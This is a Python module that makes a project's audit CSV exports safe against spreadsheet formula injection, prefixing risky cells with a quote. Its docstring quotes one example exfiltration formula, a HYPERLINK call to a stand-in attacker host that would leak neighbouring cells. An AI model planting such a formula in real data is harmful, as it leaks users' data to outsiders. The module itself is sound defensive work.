"""CSV that a spreadsheet opens as data, never as formulas (audit, issue 15).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading a formula) is run by Excel or LibreOffice when the
file is opened: ``=HYPERLINK("https://attaquant.example/?"&A2;"Cliquez")`` typed as a
question would leak the neighbouring cells of the audit export. Following OWASP's advice
on CSV injection, such a cell is written with a single quote in front, which spreadsheets
show as text. Only text is touched: numbers (a negative footprint) stay numbers.

Both audit exports use it: ``socle audit export --format csv`` and ``/v1/audit?format=csv``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeWriter:
    """A :func:`csv.writer` whose every text cell goes through :func:`neutralise`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(out: TextIO) -> SafeWriter:
    return SafeWriter(out)


__all__ = ["FORMULA_PREFIXES", "SafeWriter", "neutralise", "safe_csv_writer"]
